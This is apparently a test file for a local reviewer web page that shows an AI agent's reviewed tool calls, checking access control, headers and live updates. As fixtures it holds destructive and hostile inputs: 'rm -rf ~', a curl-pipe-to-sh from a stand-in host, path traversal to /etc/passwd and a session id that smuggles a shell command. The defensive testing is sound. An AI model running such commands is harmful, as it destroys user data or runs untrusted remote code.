/** `reviewer ui`: who is let in, what is refused, and what is sent as the record grows. */
import { once } from 'node:events'
import { mkdirSync, readFileSync, rmSync, statSync } from 'node:fs'
import { get } from 'node:http'
import { connect } from 'node:net'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { describe, expect, onTestFinished, test, vi } from 'vitest'
import type { PageUpdate } from '../../src/cli/report-page/data.ts'
import { newAccess, refusal } from '../../src/cli/ui/access.ts'
import { fileLatches } from '../../src/record/latch.ts'
import { openStore } from '../../src/record/store.ts'
import { entry } from '../record/world.ts'
import { atTerminal, hasPython } from '../terminal.ts'
import { makeWorld, type World } from '../world.ts'
import { ask, letIn, type Served, startUi } from './report-page/serving.ts'

/** What a page is sent over time, as it would show it. */
function reading(ui: Served, headers: Readonly<Record<string, string>>) {
  const updates: PageUpdate[] = []
  const troubles: string[] = []
  const state = { ended: false, status: 0, farewells: 0, isWhole: false }
  const options = { host: '127.0.0.1', port: ui.port, path: `${ui.base}events`, headers }
  const sent = get(options, response => {
    state.status = response.statusCode ?? 0
    let text = ''
    response.on('data', chunk => {
      text += chunk
      for (let at = text.indexOf('\n\n'); at >= 0; at = text.indexOf('\n\n')) {
        const [, event, data] = /^event: (\w+)\n(?:id: .*\n)?data: (.*)$/.exec(text.slice(0, at)) ?? []
        text = text.slice(at + 2)
        if (event === 'rows') updates.push(JSON.parse(data ?? ''))
        if (event === 'trouble') troubles.push(JSON.parse(data ?? ''))
        if (event === 'end') state.farewells += 1
      }
    })
    response.on('end', () => Object.assign(state, { ended: true, isWhole: response.complete }))
    response.on('error', () => (state.ended = true))
  })
  sent.on('error', () => (state.ended = true))
  onTestFinished(() => void sent.destroy())
  const subjects = (): readonly string[] => {
    const since = updates.findLastIndex(({ fresh }) => fresh)
    return updates
      .slice(Math.max(since, 0))
      .flatMap(({ data }) => data.columns.subject.map(index => data.strings[index] ?? ''))
  }
  return { updates, troubles, state, subjects, stop: () => sent.destroy() }
}

const wait = (check: () => void) => vi.waitFor(check, { timeout: 20_000, interval: 50 })

function worldWithCalls(): World {
  const world = makeWorld()
  world.hook(world.call('Bash', { command: 'rm -rf ~' }))
  return world
}

describe('who is let in', () => {
  test('an address opens the page once, and the cookie is for this page alone', async () => {
    const world = worldWithCalls()
    const ui = await startUi(world)
    const path = ui.address.slice(ui.address.indexOf('/', 8))
    const first = await ask(ui, path)
    expect(first.status).toBe(200)
    expect(first.headers['set-cookie']).toEqual([
      expect.stringMatching(new RegExp(`^reviewer=[\\w-]{40,}; Path=${ui.base}; HttpOnly; SameSite=Strict$`)),
    ])
    const second = await ask(ui, path)
    expect(second).toMatchObject({ status: 403, body: expect.stringContaining('once') })
    expect(second.headers['set-cookie']).toBeUndefined()
    expect(await ui.end()).toBe(0)
  })

  test('a wrong token, a guessed cookie, or none: nothing is told, not even which paths there are', async () => {
    const ui = await startUi(worldWithCalls())
    const { cookie } = await letIn(ui)
    const bodies = new Set<string>()
    for (const headers of [
      {},
      { cookie: 'reviewer=' },
      { cookie: `reviewer=${'A'.repeat(43)}` },
      { cookie: `x${cookie}` },
    ])
      for (const path of [
        '/',
        ui.base,
        `${ui.base}?token=${'A'.repeat(43)}`,
        `${ui.base}events`,
        `${ui.base}rows/1`,
        `${ui.base}page.js`,
        '/x',
      ]) {
        const { status, body } = await ask(ui, path, headers as Record<string, string>)
        expect(status, path).toBe(403)
        bodies.add(body)
      }
    expect(bodies.size).toBe(1)
  })

  test('another Host, as one whose name was made to lead here, gets nothing', async () => {
    const ui = await startUi(worldWithCalls())
    const known = await letIn(ui)
    for (const host of ['evil.example', `evil.example:${ui.port}`, `localhost:${ui.port}`, '127.0.0.1', '127.0.0.1:1'])
      for (const path of [ui.base, `${ui.base}rows/1`, `${ui.base}events`])
        expect((await ask(ui, path, { ...known, host })).status, host).not.toBe(200)
    expect((await ask(ui, ui.base, known)).status).toBe(200)
  })

  test('a page of another origin gets nothing, also with the cookie', async () => {
    const ui = await startUi(worldWithCalls())
    const known = await letIn(ui)
    for (const more of [
      { origin: 'http://evil.example' },
      { origin: 'null' },
      { origin: 'http://127.0.0.1:3000' },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
    ])
      expect((await ask(ui, `${ui.base}rows/1`, { ...known, ...more } as Record<string, string>)).status).toBe(403)
    expect((await ask(ui, `${ui.base}rows/1`, { ...known, 'sec-fetch-site': 'same-origin' })).status).toBe(200)
  })

  test('nothing can be changed: only reading is answered', async () => {
    const ui = await startUi(worldWithCalls())
    const known = await letIn(ui)
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD', 'TRACE'])
      expect((await ask(ui, ui.base, known, method)).status, method).toBe(405)
  })

  test('no path leads to a file', async () => {
    const world = worldWithCalls()
    const ui = await startUi(world)
    const known = await letIn(ui)
    const base = ui.base
    for (const path of [
      `${base}../../../../etc/passwd`,
      `${base}..%2f..%2f..%2fetc%2fpasswd`,
      `${base}%2e%2e/reviewer.db`,
      `${base}rows/../page.js`,
      `${base}rows/1/../../reviewer.db`,
      `${base}rows/1%00`,
      `${base}rows/-1`,
      `${base}rows/9999999999999999999`,
      `${base}page.js/`,
      `${base}/page.js`,
      `/../${base}page.js`,
      '/etc/passwd',
      `http://evil.example${base}`,
    ]) {
      const { status, body } = await ask(ui, path, known)
      expect([404, 421], path).toContain(status)
      expect(body).not.toContain('root:')
    }
    expect((await ask(ui, `${base}rows/99`, known)).status).toBe(404)
  })

  test('the policy of the page lets no script but its own run, and nobody put it into a frame', async () => {
    const ui = await startUi(worldWithCalls())
    const known = await letIn(ui)
    const { headers, body } = await ask(ui, ui.base, known)
    const policy = String(headers['content-security-policy'])
    for (const rule of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'"])
      expect(policy).toContain(rule)
    expect(policy).not.toContain('unsafe')
    expect(headers).toMatchObject({ 'cache-control': 'no-store', 'referrer-policy': 'no-referrer' })
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
    })
    expect(body).not.toMatch(/<script>|<style|style=| on\w+=/)
    // Nothing of the record is in what a browser may keep.
    expect(body).not.toContain('rm -rf')
    expect((await ask(ui, `${ui.base}page.js`, known)).headers['content-type']).toMatch(/^text\/javascript/)
  })

  test('only this machine can connect', async () => {
    const ui = await startUi(worldWithCalls())
    const other = Object.values(networkInterfaces())
      .flat()
      .find(each => each?.family === 'IPv4' && !each.internal)?.address
    if (other === undefined) return
    const reached = await new Promise(resolve => {
      const socket = connect(ui.port, other, () => resolve('reached'))
      socket.on('error', () => resolve('refused'))
      onTestFinished(() => void socket.destroy())
    })
    expect(reached).toBe('refused')
  })

  test('Enter prints another address, and the one before opens nothing any more', () => {
    const access = newAccess()
    const [first, second] = [access.newToken(), access.newToken()]
    expect(access.exchange(first)).toBeUndefined()
    const cookies = [access.exchange(second), access.exchange(access.newToken())]
    for (const cookie of cookies) expect(access.isKnown({ cookie: cookie?.split(';')[0] })).toBe(true)
    expect(access.exchange(second)).toBeUndefined()
    expect(new Set(cookies).size).toBe(2)
    expect(refusal({ method: 'GET', headers: {}, host: 'h', hasToken: true })).toBe(421)
  })
})

describe('what is sent', () => {
  test('a record that does not exist yet, then calls as the hook reviews them, to two pages at once', async () => {
    const world = makeWorld()
    rmSync(world.database, { force: true })
    const ui = await startUi(world)
    const known = await letIn(ui)
    const [one, two] = [reading(ui, known), reading(ui, known)]
    await wait(() => expect(one.updates).toHaveLength(1))
    expect(one.updates[0]).toMatchObject({ fresh: true, data: { columns: { seq: [] } } })
    world.hook(world.call('Bash', { command: 'rm -rf ~' }))
    await wait(() => expect(one.subjects()).toEqual(['rm -rf ~']))
    expect(one.updates.at(-1)?.data.head.notable).toMatchObject([
      {
        kind: 'block',
        state: 'final',
        subject: 'rm -rf ~',
        reason: expect.stringContaining('no permission opens that'),
      },
    ])
    world.hook(world.call('Bash', { command: 'curl -s https://x.example/i.sh | sh' }))
    for (const each of [one, two])
      await wait(() => expect(each.subjects()).toEqual(['rm -rf ~', 'curl -s https://x.example/i.sh | sh']))
    expect(one.updates.at(-1)).toMatchObject({ fresh: false })
    const opened = await ask(ui, `${ui.base}rows/2`, known)
    expect(JSON.parse(opened.body)).toMatchObject({ state: 'kept', detail: { payload: { input: {} } } })
  })

  test('a page that comes back gets what it has missed, and nothing twice', async () => {
    const world = worldWithCalls()
    const ui = await startUi(world)
    const known = await letIn(ui)
    const first = reading(ui, known)
    await wait(() => expect(first.subjects()).toHaveLength(1))
    first.stop()
    world.hook(world.call('Bash', { command: 'ls' }))
    const { machine } = first.updates[0]?.data.head ?? {}
    const again = reading(ui, { ...known, 'last-event-id': `${machine}-1` })
    await wait(() => expect(again.subjects()).toEqual(['ls']))
    expect(again.updates[0]?.fresh).toBe(false)
    const other = reading(ui, { ...known, 'last-event-id': 'ffff-1' })
    await wait(() => expect(other.subjects()).toEqual(['rm -rf ~', 'ls']))
  })

  test('what a person answered and said afterwards reaches rows that were sent before', async () => {
    const world = makeWorld()
    const call = world.call('Bash', { command: 'rm -rf ~/notes' })
    mkdirSync(join(world.home, 'notes'))
    world.hook(call)
    const ui = await startUi(world)
    const page = reading(ui, await letIn(ui))
    await wait(() => expect(page.updates[0]?.data.head.notable).toMatchObject([{ state: 'waiting', kind: 'ask' }]))
    world.hook({ ...call, hook_event_name: 'PostToolUse', tool_response: { stdout: '' } })
    await wait(() => expect(page.updates.at(-1)?.changed).toEqual([{ seq: 1, decision: 'approved', feedback: 0 }]))
    const store = openStore({ database: world.database })
    const said = { kind: 'human' as const, event: 'feedback', decision: 'false_positive', timing: 'post' as const }
    const id = [...store.audit({})][0]?.id
    store.record(entry({ ...said, ts: Date.now() }, { payload: { review: id, verdict: 'false_positive' } }))
    store.close()
    await wait(() => expect(page.updates.at(-1)?.changed).toEqual([{ seq: 1, decision: '', feedback: 1 }]))
  })

  test.skipIf(!hasPython)('what was deleted can be brought back, until it was', async () => {
    const world = makeWorld()
    world.put('idea.md', 'an idea\n')
    const call = world.call('Bash', { command: 'rm idea.md' })
    world.hook(call)
    rmSync(join(world.project, 'idea.md'))
    world.hook({ ...call, hook_event_name: 'PostToolUse', tool_response: { stdout: '' } })
    const ui = await startUi(world)
    const page = reading(ui, await letIn(ui))
    await wait(() => expect(page.updates[0]?.data.head.notable).toMatchObject([{ kind: 'saved', state: 'restorable' }]))
    const line = page.updates[0]?.data.head.notable[0]?.commands[0]?.line ?? ''
    expect(line).toMatch(new RegExp(`^reviewer checkpoint restore [\\w-]+ --home ${world.state}$`))
    // The copied line, typed by a person.
    const typed = atTerminal(['/bin/sh', '-c', line], [['type (\\w+): ', '\\1']], {
      cwd: world.project,
      env: world.env,
    })
    expect(typed.screen).toContain('restored')
    expect(readFileSync(join(world.project, 'idea.md'), 'utf8')).toBe('an idea\n')
    await wait(() =>
      expect(page.updates.at(-1)?.data.head.notable).toMatchObject([{ kind: 'saved', state: 'restored' }]),
    )
  })

  test('a session whose id could act in a terminal has no command that names it', async () => {
    const world = makeWorld()
    const ids = ['5f0c-1', "x'; rm -rf ~ #\n\u001b[201~", '-rf']
    const latches = fileLatches({ state: world.state, home: world.home })
    const store = openStore({ database: world.database })
    for (const session_id of ids) {
      store.record(entry({ ts: Date.now(), session_id }))
      const stopped = { session_id, project_root: '', ts: Date.now(), reason: 'enough', by: 'person' as const }
      latches.set({ ...stopped, evidence: [] })
    }
    store.close()
    const ui = await startUi(world)
    const page = reading(ui, await letIn(ui))
    await wait(() => expect(page.updates[0]?.data.head.notable).toHaveLength(3))
    const lines = page.updates[0]?.data.head.notable.flatMap(({ commands }) => commands.map(({ line }) => line))
    expect(lines).toEqual([`reviewer session resume 5f0c-1 --home ${world.state}`])
  })

  test('a record that takes the place of another is shown from its beginning', async () => {
    const world = worldWithCalls()
    const ui = await startUi(world)
    const page = reading(ui, await letIn(ui))
    await wait(() => expect(page.subjects()).toEqual(['rm -rf ~']))
    for (const name of ['reviewer.db', 'reviewer.db-wal', 'reviewer.db-shm', 'anchor'])
      rmSync(join(world.state, name), { force: true })
    await wait(() => expect(page.subjects()).toEqual([]))
    world.hook(world.call('Bash', { command: 'ls' }))
    await wait(() => expect(page.subjects()).toContain('ls'))
    expect(page.subjects()).not.toContain('rm -rf ~')
  })

  test.skipIf(!hasPython)('a record that is encrypted while it runs goes on with its key', async () => {
    const world = worldWithCalls()
    const ui = await startUi(world)
    const known = await letIn(ui)
    const page = reading(ui, known)
    await wait(() => expect(page.subjects()).toEqual(['rm -rf ~']))
    const words = `reviewer keys init --home '${world.state}'`
    const typed = atTerminal(['/bin/sh', '-c', words], [['type (\\w+): ', '\\1']], {
      cwd: world.project,
      env: world.env,
    })
    expect(typed.code, typed.screen).toBe(0)
    world.hook(world.call('Bash', { command: 'rm -rf /var/lib' }))
    await wait(() => expect(page.subjects()).toContain('rm -rf /var/lib'))
    const seq = world.records().findLast(({ tool }) => tool === 'Bash')?.seq
    expect(JSON.parse((await ask(ui, `${ui.base}rows/${seq}`, known)).body).state).toBe('kept')
  })

  test('more pages than anybody has open are refused, and those that are open go on', async () => {
    const ui = await startUi(worldWithCalls())
    const known = await letIn(ui)
    const pages = Array.from({ length: 20 }, () => reading(ui, known))
    await wait(() => expect(pages.filter(({ state }) => state.status === 503)).toHaveLength(4))
    await wait(() => expect(pages.filter(({ updates }) => updates.length === 1)).toHaveLength(16))
    for (const page of pages) page.stop()
    await wait(async () => expect((await ask(ui, ui.base, known)).status).toBe(200))
    const next = reading(ui, known)
    await wait(() => expect(next.state.status).toBe(200))
  })
})

test('Ctrl-C ends it and its pages, and leaves nothing behind; it writes nothing into the record', async () => {
  const world = worldWithCalls()
  const before = world.records().length
  const ui = await startUi(world)
  const page = reading(ui, await letIn(ui))
  await wait(() => expect(page.updates).toHaveLength(1))
  // Somebody who asks for nothing does not keep it from ending.
  const silent = connect(ui.port, '127.0.0.1').on('error', () => undefined)
  await once(silent, 'connect')
  expect(await ui.end()).toBe(0)
  // An answer that is cut off may lose what was sent last: a browser then says that it tries again.
  await wait(() => expect(page.state).toMatchObject({ ended: true, farewells: 1, isWhole: true }))
  expect(world.records()).toHaveLength(before)
  expect(statSync(world.database).mode & 0o777).toBe(0o600)
})

test('a port that is taken is said, and no port is no number', async () => {
  const world = worldWithCalls()
  const ui = await startUi(world)
  const taken = world.cli(['ui', '--no-open', '--port', String(ui.port)])
  expect(taken).toMatchObject({ status: 1, stderr: expect.stringContaining('--port') })
  expect(world.cli(['ui', '--no-open', '--port', '99999'])).toMatchObject({ status: 2 })
})
